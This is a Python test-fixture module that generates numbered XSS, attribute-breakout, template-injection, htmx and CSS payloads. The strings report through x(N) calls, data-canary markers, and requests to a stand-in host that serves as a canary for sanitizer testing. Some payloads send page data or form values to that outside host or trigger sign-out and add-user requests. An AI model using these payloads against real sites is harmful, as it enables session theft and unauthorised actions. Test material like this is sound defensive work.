"""Texts that are a program if anything but text is made of them.

One rule: each tells that it ran by calling `x` with its number, each element it makes carries the
attribute `data-canary`, and every address it names is of a host that is not ours.
"""

from typing import Final

#: Where canaries fly to, and what they leave.
HOST: Final = "canary.example"
MARK: Final = "data-canary"

_SCRIPTS: Final = (
    "<script>x(N)</script>", "<SCRIPT>x(N)</SCRIPT>", "<ScRiPt >x(N)</sCrIpT >", "<script/x>x(N)</script>",
    "<script\tz>x(N)</script>", "<scr<script>ipt>x(N)</scr</script>ipt>", "<script>x(N)//", "<script>x(N)<!--",
    "</script><script>x(N)</script>", "</title><script>x(N)</script>", "</textarea><script>x(N)</script>",
    "</option></select><script>x(N)</script>", "</style><script>x(N)</script>", "--><script>x(N)</script>",
    "]]><script>x(N)</script>", "<![CDATA[><script>x(N)</script>]]>", "<noscript><p title='</noscript><script>x(N)</script>'>",
    "<svg><script>x(N)</script></svg>", "<svg><script>x&#40;N&#41;</script></svg>", "<svg><script href=//H/N.js data-canary /></svg>",
    "<script src=//H/N.js data-canary></script>", "<script src=https:/\\H/N.js data-canary></script>",
    "<script type=module>x(N)</script>", "<script>import('//H/N.js')</script>", "<script>alert(N)</script>",
    "<script>document.location='//H/N'</script>", "<script>fetch('//H/N')</script>", "<script>new Image().src='//H/N'</script>",
    "&lt;script&gt;x(N)&lt;/script&gt;", "&#60;script&#62;x(N)&#60;/script&#62;", "\\u003cscript\\u003ex(N)\\u003c/script\\u003e",
    "%3Cscript%3Ex(N)%3C/script%3E", "+ADw-script+AD4-x(N)+ADw-/script+AD4-", "<math><mtext><script>x(N)</script>",
    "<template><script>x(N)</script></template>",
)  # fmt: skip

_HANDLERS: Final = tuple(
    f"<{tag} {MARK}=N {event}=x(N)>"
    for tag, event in (
        ("img src=q", "onerror"), ("IMG SRC=q", "OnErRoR"), ("image src=q", "onerror"), ("img src=//H/N.png", "onload"),
        ("svg", "onload"), ("svg/", "onload"), ("body", "onload"), ("body", "onpageshow"), ("body", "onhashchange"),
        ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
        ("button autofocus", "onfocus"), ("a href=# autofocus", "onfocus"), ("p tabindex=0 autofocus", "onfocus"),
        ("details open", "ontoggle"), ("video src=q", "onerror"), ("audio src=q", "onerror"),
        ("video><source src=q", "onerror"), ("marquee", "onstart"), ("marquee loop=1", "onfinish"),
        ("iframe", "onload"), ("iframe src=//H/N", "onload"), ("object data=q", "onerror"), ("embed src=q", "onload"),
        ("link rel=stylesheet href=q", "onerror"), ("style", "onload"), ("script src=q", "onerror"),
        ("p", "onmouseover"), ("p", "onpointerenter"), ("p", "onclick"), ("xss contenteditable autofocus", "onfocus"),
        ("xss style=animation-name:x", "onanimationstart"), ("p style=transition:1s", "ontransitionend"),
        ("svg><animate attributeName=x dur=1s", "onbegin"), ("svg><set attributeName=x to=1", "onbegin"),
        ("dialog open", "onclose"), ("input type=image src=q", "onerror"), ("math><mi", "onclick"),
        ("p popover", "onbeforetoggle"), ("form", "onsubmit"), ("form", "onformdata"),
    )
)  # fmt: skip

_BREAKOUTS: Final = (
    *(f"{quote}{end}<img src=q {MARK} onerror=x(N)>" for quote in ('"', "'", "`", "q") for end in (">", "/>", " >")),
    *(f"{quote} {MARK} autofocus onfocus=x(N) z={quote}" for quote in ('"', "'", "`")),
    *(f"{quote} {MARK} onpointerenter=x(N) style=position:fixed;inset:0 z={quote}" for quote in ('"', "'")),
    *(f"{escaped} {MARK} onfocus=x(N) autofocus z=" for escaped in ("&quot;", "&#34;", "&#x27;", "\\\"", "\\'", "%22")),
    f"q {MARK} onfocus=x(N) autofocus", f"q\n{MARK}\nautofocus\nonfocus=x(N)", f"/{MARK}/autofocus/onfocus=x(N)",
    "';x(N);//", '";x(N);//', "`;x(N);`", "${x(N)}", "*/x(N)/*", "</p></li></ul></main><img src=q data-canary onerror=x(N)>",
)  # fmt: skip

_ADDRESSES: Final = (
    "javascript:x(N)", "JaVaScRiPt:x(N)", "java\tscript:x(N)", "JAVASCRIPT:x(N)", "javascript://%0ax(N)",
    "javascript&colon;x(N)", "&#106;avascript:x(N)", "vbscript:x(N)", "data:text/html,<script>x(N)</script>",
    "data:image/svg+xml,<svg onload=x(N) data-canary>", "//H/N", "/\\H/N", "https:H/N", "\\\\H\\N",
    "<a href=javascript:x(N) data-canary>กด</a>", "<a href='java&#9;script:x(N)' data-canary>กด</a>",
    "<a href=//H/N ping=//H/N data-canary>กด</a>", "<svg><a xlink:href=javascript:x(N) data-canary><text y=9>กด</text></a></svg>",
    "<form action=javascript:x(N) data-canary><button>กด", "<button formaction=javascript:x(N) data-canary>กด",
    "<form action=//H/N data-canary><input name=csrf>", "<isindex action=javascript:x(N) data-canary>",
)  # fmt: skip

_TEMPLATES: Final = (
    "{{7*7}}N", "{{ 7*7 }}N", "{% raw %}N", "{%7*7%}N", "{# N #}", "${7*7}N", "#{7*7}N", "<%= 7*7 %>N", "*{7*7}N", "@(7*7)N",
    "{{config}}N", "{{self._TemplateReference__context}}N", "{{''.__class__.__mro__[1].__subclasses__()}}N",
    "{{request.application}}N", "{{say('title')}}N", "{{csrf}}N", "{{visitor.csrf}}N", "{{[].pop.constructor('x(N)')()}}",
    "{{constructor.constructor('x(N)')()}}", "{0.__class__}N", "{receipt}N", "{reply!r}N", "%(name)sN", "%s%n%xN", "{{{N",
)  # fmt: skip

_HTMX: Final = (
    f"<p {MARK} hx-get=//H/N hx-trigger=load>", f"<p {MARK} hx-post=/secretariat/sign-out hx-trigger=load>",
    f"<p {MARK} data-hx-get=//H/N data-hx-trigger=load>", f"<p {MARK} hx-on:click=x(N)>", f"<p {MARK} hx-on::load=x(N)>",
    f"<p {MARK} hx-on--load=x(N)>", f"<p {MARK} data-hx-on:htmx:load=x(N)>", f"<p {MARK} hx-on='htmx:load: x(N)'>",
    f"<p {MARK} hx-vals='js:{{a:x(N)}}' hx-get=/ hx-trigger=load>", f"<p {MARK} hx-headers='javascript:x(N)'>",
    f"<p {MARK} hx-trigger='load[x(N)]' hx-get=/>", f"<p {MARK} hx-ext=N hx-boost=true>", f"<p {MARK} hx-include=* hx-get=//H/N hx-trigger=revealed>",
    f'" {MARK} hx-get="//H/N" hx-trigger="load', f"' {MARK} hx-on:focus='x(N)' autofocus='", f'" {MARK} data-hx-post="/secretariat/people/add" hx-trigger="every 1s',
    f"<p {MARK} hx-swap-oob=true id=content>N", f"<p {MARK} hx-target=body hx-swap=outerHTML hx-get=//H/N>", f"<p {MARK} sse-connect=//H/N>",
    f"<p {MARK} ws-connect=//H/N>",
)  # fmt: skip

_ELEMENTS: Final = (
    f"<meta {MARK} http-equiv=refresh content='0;url=//H/N'>", f"<meta {MARK} http-equiv=Content-Security-Policy content='script-src *'>",
    f"<meta {MARK} name=referrer content=unsafe-url>", f"<base {MARK} href=//H/N/>", f"<base {MARK} target=_blank>",
    f"<link {MARK} rel=stylesheet href=//H/N.css>", f"<link {MARK} rel=prefetch href=//H/N>", f"<link {MARK} rel=dns-prefetch href=//H>",
    f"<style {MARK}>*{{background:url(//H/N)}}</style>", f"<style {MARK}>p{{content:url(//H/N)}}</style>", f"<p {MARK} style=background:url(//H/N)>",
    f"<p {MARK} style='position:fixed;inset:0'>N", f"<style {MARK}>input[value^=a]{{background:url(//H/N)}}</style>",
    "x:expression(x(N))", "}*{background:url(//H/N)}", f"<iframe {MARK} srcdoc='<script>parent.x(N)</script>'>", f"<iframe {MARK} src=javascript:parent.x(N)>",
    f"<object {MARK} data=//H/N>", f"<embed {MARK} src=//H/N>", f"<portal {MARK} src=//H/N>", f"<frameset {MARK} onload=x(N)>",
    f"<img {MARK} src=//H/N>", f"<img {MARK} srcset='//H/N 1x'>", f"<input {MARK} type=password name=password>", f"<form {MARK} id=f></form><input {MARK} form=f>",
    f"<a {MARK} id=x><a {MARK} id=x name=y href=//H/N>", f"<img {MARK} name=querySelector src=q>", f"<plaintext {MARK}>N", f"<xmp {MARK}>N", "<!-- N",
    f"<table {MARK} background=//H/N>", f"<video {MARK} poster=//H/N>", f"<svg {MARK}><use href=//H/N#a>", f"<svg {MARK}><image href=//H/N>", f"<svg {MARK}><foreignObject><img src=q onerror=x(N)>",
    f"<p {MARK} is=x-N slot=N part=N>", f"<template {MARK} shadowrootmode=open>N", f"<h1 {MARK}>N</h1>", f"<b {MARK}>N</b>", f"<br {MARK}>N",
)  # fmt: skip

_TRICKS: Final = (
    "\uff1cscript\uff1ex(N)\uff1c/script\uff1e", "<scr\u200bipt>x(N)</scr\u200bipt>", "<\u017fcript>x(N)</\u017fcript>",
    "\u202e>tpircs/<(N)x>tpircs<", "\u2066<img src=q data-canary onerror=x(N)>\u2069", "<img\u00a0src=q\u00a0data-canary\u00a0onerror=x(N)>",
    "<img\u3000src=q\u3000data-canary\u3000onerror=x(N)>", "<img\u2028src=q data-canary onerror=x(N)>", "\u02bascript\u02ba x(N)", "\u2039script\u203ax(N)\u2039/script\u203a",
    "ก\u0e49\u0e49\u0e49<img src=q data-canary onerror=x(N)>", "<ก data-canary onclick=x(N)>", "<img src=q data-canary onerror=\u2028x(N)>", "\u00ad<script>x(N)</script>",
    "<svg\u000aonload=x(N) data-canary>",
)  # fmt: skip

_MARKDOWN: Final = (
    "[กด](javascript:x(N))", "![ภาพ](//H/N.png)", "[กด]: //H/N", "```html\n<script>x(N)</script>\n```", "> <img src=q data-canary onerror=x(N)>",
    "<javascript:x(N)>", "[x]('onmouseover='x(N))", "| <img src=q data-canary onerror=x(N)> |",
)  # fmt: skip

_POLYGLOTS: Final = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onCliCk=x(N) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/onLoAd=x(N)//>",
    "\"'><svg/onload=x(N) data-canary>{{7*7}}<!--", "'\"--></style></script><script>x(N)</script>", "</script><svg onload=x(N) data-canary>${x(N)}{{x(N)}}",
    "\"><img src=q data-canary onerror=x(N)><'", "-->'\"/></sCript><deTailS open data-canary onToGgle=(x)(N)>", "javascript:x(N)//\" data-canary onfocus=x(N) autofocus \"",
    "<!--<img src=\"--><img src=q data-canary onerror=x(N)//\">",
)  # fmt: skip

KINDS: Final = (
    *_SCRIPTS, *_HANDLERS, *_BREAKOUTS, *_ADDRESSES, *_TEMPLATES, *_HTMX, *_ELEMENTS, *_TRICKS, *_MARKDOWN,
    *_POLYGLOTS,
)  # fmt: skip


def canaries(series: int, longest: int = 500) -> list[str]:
    """One of each kind that is no longer than this, in characters; of each series the numbers differ."""
    numbered = [kind.replace("N", f"{series}{n:03}").replace("H", HOST) for n, kind in enumerate(KINDS)]
    return [text for text in numbered if len(text) <= longest]
